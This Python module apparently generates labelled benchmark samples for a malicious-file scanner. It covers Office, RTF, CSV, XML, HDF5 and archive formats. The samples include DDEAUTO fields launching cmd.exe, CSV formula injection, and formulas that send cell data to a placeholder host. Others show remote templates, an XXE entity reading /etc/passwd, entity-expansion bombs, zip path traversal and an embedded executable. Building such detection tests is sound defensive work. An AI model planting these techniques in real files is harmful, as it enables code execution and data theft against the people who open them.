"""Office documents old and new, rich text, tables, and other things a double click opens (threats F1)."""

import io
import json
import struct
import zipfile
from collections.abc import Iterator

from benchmarks.corpus.files import pe
from benchmarks.corpus.samples import Sample, benign, careful, high
from tests.core.scanning.formats.zips import Member, zipped

_FREE, _END, _TABLE_MARK, _NOTHING = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR, _CUTOFF = 512, 4096


def compound(class_id: str = "", **streams: bytes) -> bytes:
    """A compound file (MS-CFB) with these streams beside each other, each long enough to have sectors of its own."""
    sectors: list[bytes] = []
    links: list[int] = []

    def place(data: bytes, mark: int = 0) -> int:
        first = len(sectors)
        count = -(-len(data) // _SECTOR)
        for number in range(count):
            sectors.append(data[number * _SECTOR : (number + 1) * _SECTOR].ljust(_SECTOR, b"\0"))
            links.append(mark or (first + number + 1 if number + 1 < count else _END))
        return first

    entries = [_entry("Root Entry", 5, _END, 0, 1 if streams else _NOTHING, bytes.fromhex(class_id) or bytes(16))]
    for number, (name, content) in enumerate(streams.items(), 1):
        data = content.ljust(_CUTOFF, b"\0")
        following = number + 1 if number < len(streams) else _NOTHING
        entries.append(_entry(name.replace("__", "\x01"), 2, place(data), len(data), _NOTHING, bytes(16), following))
    directory = place(b"".join(entries))
    table = len(sectors)
    links.append(_TABLE_MARK)
    sectors.append(struct.pack(f"<{len(links)}I", *links).ljust(_SECTOR, b"\xff"))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<9I", 0, 1, directory, 0, _CUTOFF, _END, 0, _END, 0) + struct.pack("<I", table)
    return head.ljust(_SECTOR, b"\xff") + b"".join(sectors)


def _entry(name: str, kind: int, start: int, size: int, child: int, class_id: bytes, right: int = _NOTHING) -> bytes:
    letters = (name + "\0").encode("utf-16-le")
    body = letters.ljust(64, b"\0") + struct.pack("<HBBIII", len(letters), kind, 1, _NOTHING, right, child) + class_id
    return body + bytes(20) + struct.pack("<IQ", start, size)


def package(name: str, content: bytes) -> bytes:
    """A file dragged into a document (MS-OLEDS 2.3.6)."""
    place = name.encode() + b"\0"
    body = b"\x02\0" + place + place + bytes(4) + struct.pack("<I", len(place)) + place
    body += struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def relation(kind: str, target: str) -> bytes:
    """The relations of a part: one, to something outside."""
    base = "http://schemas.openxmlformats.org"
    return (
        f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{base}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def office(**parts: bytes) -> bytes:
    """A document of Office; `__` stands for a slash and `_dot_` for a dot in the names of parts."""
    named = {key.replace("__", "/").replace("_dot_", "."): content for key, content in parts.items()}
    return zipped(Member("[Content_Types].xml", b"<Types/>"), *(Member(*part) for part in named.items()))


def word(text: str, target: bytes = b"") -> bytes:
    """A letter with this inside its body, and the relations of it."""
    body = f"<w:document><w:body><w:p>{text}</w:p></w:body></w:document>".encode()
    return office(word__document_dot_xml=body, word___rels__document_dot_xml_dot_rels=target)


def _sheet(formula: str) -> bytes:
    cell = f"<worksheet><sheetData><row><c><f>{formula}</f><v>3</v></c></row></sheetData></worksheet>"
    return office(xl__workbook_dot_xml=b"<workbook/>", xl__worksheets__sheet1_dot_xml=cell.encode())


def _open_document(content: str, *members: Member) -> bytes:
    kind = Member("mimetype", b"application/vnd.oasis.opendocument.text")
    return zipped(kind, Member("content.xml", content.encode()), Member("META-INF/manifest.xml", b"<m/>"), *members)


_BOOK = b"\x09\x08\x10\0\0\x06\x05\0" + bytes(12)


def _workbook(kind: int) -> bytes:
    return _BOOK + struct.pack("<HHIBB", 0x85, 14, 64, 2 if kind else 0, kind) + b"\x06\0Table1" + b"\x0a\0\0\0"


def samples() -> Iterator[Sample]:
    """All of them."""
    yield from _zipped()
    yield from _old()
    yield from _rich_text()
    yield from _flat()
    yield from _tables()
    yield from _others()


def _zipped() -> Iterator[Sample]:
    there = "https://files.invalid/a"
    for case, kind, target in (
        ("remote template", "attachedTemplate", f"{there}.dotm"),
        ("remote object", "oleObject", f"mhtml:{there}.html!x-usc:{there}.html"),
        ("template on a share", "attachedTemplate", "\\\\files.invalid\\share\\a.dotm"),
    ):
        yield high("document-office", case, "letter.docx", word("", relation(kind, target)))
    yield careful("document-office", "frame", "letter.docx", word("", relation("frame", there)))
    yield careful(
        "document-office", "picture on a share", "letter.docx", word("", relation("image", "\\\\h.invalid\\s\\a.png"))
    )
    yield careful(
        "document-office", "link to a program", "letter.pptx", word("", relation("hyperlink", "file:///c:/a.exe"))
    )
    yield benign(
        "document-office", "link to a page", "letter.docx", word("", relation("hyperlink", "https://example.org/"))
    )
    yield benign(
        "document-office", "own template", "letter.docx",
        word("", relation("attachedTemplate", "file:///C:/Users/me/Templates/Report.dotx")),
    )  # fmt: skip
    for case, field in {
        "field": '<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo" </w:instrText>',
        "field in pieces": "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText>",
        "simple field": "<w:fldSimple w:instr='DDE cmd echo'/>",
    }.items():
        yield high("document-office", case, "letter.docx", word(field))
    index = '<w:fldChar w:fldCharType="begin"/><w:instrText> XE "The DDE interface" </w:instrText>'
    yield benign("document-office", "entry of an index", "letter.docx", word(index))
    escaped = word("", relation("aFChunk", "https&#58;//files.invalid/a.html"))
    yield high("document-office", "part from elsewhere", "letter.docx", escaped)
    yield benign("document-office", "number of pages", "letter.docx", word("<w:instrText> PAGE </w:instrText>"))
    link = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c echo'/></externalLink>"
    yield high(
        "document-office", "link of a table", "table.xlsx", office(xl__externalLinks__externalLink1_dot_xml=link)
    )
    yield high(
        "document-office", "old macro sheet", "table.xlsx", office(xl__macrosheets__sheet1_dot_xml=b"<macrosheet/>")
    )
    yield careful(
        "document-office", "fetched table", "table.xlsx",
        office(xl__connections_dot_xml=b"<connections><connection><webPr url='https://a.invalid/'/></connection></connections>"),
    )  # fmt: skip
    yield careful(
        "document-office", "formula", "table.xlsx", _sheet("WEBSERVICE(&quot;https://a.invalid/&quot;&amp;A1)")
    )
    yield careful("document-office", "formula that starts", "table.xlsx", _sheet("cmd|'/c echo'!A0"))
    yield benign("document-office", "sum", "table.xlsx", _sheet("SUM(A1:A2)"))
    yield careful("document-office", "control", "letter.docx", office(word__activeX__activeX1_dot_bin=bytes(9)))
    ole = compound(__Ole10Native=package("invoice.exe", pe()))
    yield high("document-office", "program inside", "letter.docx", office(word__embeddings__oleObject1_dot_bin=ole))
    macro = Member("Basic/Standard/Module1.xml", b"<module>Sub Main\nEnd Sub</module>")
    yield high("document-open", "macro", "letter.odt", _open_document("<o/>", macro))
    listener = '<o><event-listener xlink:href="vnd.sun.star.script:a.py$main?language=Python"/></o>'
    yield high("document-open", "event", "table.ods", _open_document(listener))
    yield benign("document-open", "text", "letter.odt", _open_document("<o><text:p>Hello</text:p></o>"))


def _old() -> Iterator[Sample]:
    letter = b"\xec\xa5\xc1\0" + bytes(60)
    yield benign("document-old", "letter", "letter.doc", compound(WordDocument=letter))
    prose = "The DDE interface, and DDEAUTO as well".encode("utf-16-le")
    yield benign("document-old", "about fields", "letter.doc", compound(WordDocument=letter + prose))
    yield benign("document-old", "table", "table.xls", compound(Workbook=_workbook(0)))
    yield high("document-old", "macros", "letter.doc", compound(WordDocument=letter, _VBA_PROJECT=b"\xcc\x61"))
    yield high("document-old", "macro sheet", "table.xls", compound(Workbook=_workbook(1)))
    field = '\x13DDEAUTO c:\\cmd.exe "/k echo"\x15'.encode("utf-16-le")
    yield high("document-old", "field", "letter.doc", compound(WordDocument=letter + field))
    yield high("document-old", "program inside", "letter.doc", compound(__Ole10Native=package("a.scr", b"MZ")))
    yield careful("document-old", "picture inside", "letter.doc", compound(__Ole10Native=package("a.bmp", b"BM")))
    yield high("document-old", "encrypted", "table.xlsx", compound(EncryptedPackage=bytes(64)))
    yield high("program", "installer", "tool.msi", compound("84100C0000000000C000000000000046", Tables=bytes(9)))


def _rich_text() -> Iterator[Sample]:
    for case, body in {
        "object by itself": "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 01050000}}",
        "equation": "{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b000000}}",
        "class in the bytes": "{\\object\\objemb{\\*\\objdata 0105000002000000 08000000 5061\n636b61676500 00}}",
        "field": '{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k echo"}}',
        "template": "{\\*\\template https://files.invalid/a.dotm}",
    }.items():
        yield high("document-rich", case, "letter.rtf", "{\\rtf1\\ansi " + body + "}")
    yield high("document-rich", "short header, other name", "letter.doc", "{\\rt{\\object\\objhtml{\\*\\objdata 01}}}")
    yield careful("document-rich", "object", "letter.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 010500000200}}}")
    yield benign("document-rich", "text", "letter.rtf", "{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}Hello \\b world\\b0.}")


def _flat() -> Iterator[Sample]:
    flat = "<?xml version='1.0'?><office:document xmlns:office='o'>{}</office:document>"
    yield high(
        "document-flat", "event", "letter.fodt", flat.format('<l xlink:href="macro:///Standard.Module1.Main()"/>')
    )
    yield benign("document-flat", "text", "letter.fodt", flat.format("<text:p>Hello</text:p>"))
    word_2003 = "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument {}/>"
    yield high("document-flat", "macros", "letter.xml", word_2003.format('w:macrosPresent="yes"'))
    yield benign("document-flat", "no macros", "letter.xml", word_2003.format('w:macrosPresent="no"'))


def _tables() -> Iterator[Sample]:
    for case, path, content in (
        ("program", "data.csv", "a,b\n1,=cmd|'/c echo'!A0\n"),
        ("program behind a sum", "data.csv", "a\n@SUM(1+1)*cmd|' /C echo'!A0\n"),
        ("behind numbers", "data.csv", "x\n-1;-2+3+cmd|' /C echo'!D2\n"),
        ("sends", "data.csv", 'a\n"=HYPERLINK(""https://a.invalid/?x=""&A1,""see"")"\n'),
        ("fetches", "data.tsv", 'a\tb\n1\t=IMPORTXML("https://a.invalid/"&B1,"//a")\n'),
        ("old language", "data.slk", 'ID;P\nO;E\nNN;NAuto_open;ER1C1;KOut Flank;F\nC;X1;Y1;K0;EEXEC("echo")\nE\n'),
    ):
        yield careful("table", case, path, content)
    for case, content in {
        "signs": "name,delta,sum\na,-1.5,=A2+B2\nb,+3,=SUM(A3:B3)\n@ann,- call (me) | 'x',=HYPERLINK(\"https://example.org\")\n",
        "commands quoted": "prompt,answer\nlist files,ls | sort\nrun,\"exec('x')\"\n",
    }.items():
        yield benign("table", case, "data.csv", content)


def _others() -> Iterator[Sample]:
    yield high(
        "vbscript", "page that starts", "page.hta", '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>'
    )
    yield high(
        "vbscript",
        "part that starts",
        "a.wsf",
        "<job><script>\nx = 'Shell.Application';o.ShellExecute(x)</script></job>",
    )
    extension = Member("manifest.json", b'{"manifest_version": 3, "name": "x"}'), Member("a.js", b"console.log(1)\n")
    yield careful("program", "extension of Firefox", "tool.xpi", zipped(*extension))
    yield careful("program", "extension of Chrome", "tool.crx", b"Cr24\3\0\0\0\0\0\0\0" + zipped(*extension))
    yield careful(
        "program", "extension of an editor", "tool.vsix", zipped(Member("extension.vsixmanifest", b"<x/>"), *extension)
    )
    yield careful("program", "macOS installer", "tool.pkg", b"xar!\0\x1c\0\1" + bytes(40))
    yield careful("program", "macOS image", "tool.dmg", b"\x78\xda" + bytes(range(256)) + b"koly" + bytes(508))
    yield careful("program", "Flash", "film.swf", b"FWS\x09" + bytes(40))
    yield benign("data", "stream of Arrow", "data.arrow", b"\xff\xff\xff\xff\x10\0\0\0\x10\0\0\0" + bytes(64))
    yield benign("data", "index of vectors", "index.faiss", b"IxF2" + struct.pack("<i", 4) + bytes(60))
    yield benign("data", "fastText", "cc.en.bin", b"\xba\x16\x4f\x2f\x0c\0\0\0" + bytes(60))
    yield benign("data", "word2vec", "vectors.bin", b"2 4\nthe " + struct.pack("<4f", 1, 2, 3, 4) + b"\na " + bytes(17))
    yield benign("data", "empty table", "vocab/lookups.bin", b"\x80")
    yield from _hdf5()
    yield from _indexes()
    yield from _other_names()
    node = 'node {\n  name: "w"\n  op: "WriteFile"\n}\n'
    yield high("tensorflow", "text, writes a file", "graph.pbtxt", node)
    yield benign("tensorflow", "text, calculates", "graph.pbtxt", node.replace("WriteFile", "MatMul"))
    several = "".join(f'<!ENTITY {one} "{f"&{other};" * 20}">' for one, other in zip("bcdefgh", "abcdefg", strict=True))
    yield high("xml", "words of words", "model.pmml", f'<!DOCTYPE P [<!ENTITY a "aaaa">{several}]><PMML>&h;</PMML>')
    yield high(
        "xml",
        "a file of the reader",
        "model.xml",
        '<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><n>&x;</n>',
    )


def _indexes() -> Iterator[Sample]:
    for label, part in ((high, "../../other/model.safetensors"), (benign, "model-00001-of-00002.safetensors")):
        yield label("index", part, "model.safetensors.index.json", json.dumps({"weight_map": {"a.weight": part}}))


def _other_names() -> Iterator[Sample]:
    """Members with a second name (APPNOTE.TXT 4.6.9), which some programs prefer."""
    for label, name, other in (
        (high, "a.txt", "../../a.py"),
        (careful, "a.txt", "a.bat"),
        (benign, "\xe4.txt", "ä.txt"),
    ):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            info = zipfile.ZipInfo(name)
            info.extra = struct.pack("<HHBI", 0x7075, 5 + len(other.encode()), 1, 0) + other.encode()
            archive.writestr(info, b"hello")
        yield label("archive", f"two names, {other}", "data.zip", made.getvalue())


def _hdf5() -> Iterator[Sample]:
    """Only what the search goes by; no reader would find a root group here."""
    head = b"\x89HDF\r\n\x1a\n" + bytes(88)
    link = b"\x01\x08\x40\x01w"
    for label, target in ((high, b"/etc/passwd"), (careful, b"other.h5")):
        names = b"\0" + target + b"\0/x\0"
        yield label(
            "hdf5", f"link to {target.decode()}", "m.weights.h5", head + link + struct.pack("<H", len(names)) + names
        )
    files = b"\x01\0\0\0\x01\0\x01\0" + struct.pack("<QQQQ", 160, 8, 0, 4)
    heap = b"HEAP" + bytes(20) + struct.pack("<Q", 192) + bytes(8) + b"/etc/shadow\0"
    yield high("hdf5", "numbers in a file", "m.weights.h5", (head + files).ljust(160, b"\0") + heap)
    yield benign(
        "hdf5", "names and numbers", "m.weights.h5", head + b"/etc/passwd\0/x\0" + struct.pack("<9i", *[1] * 9)
    )
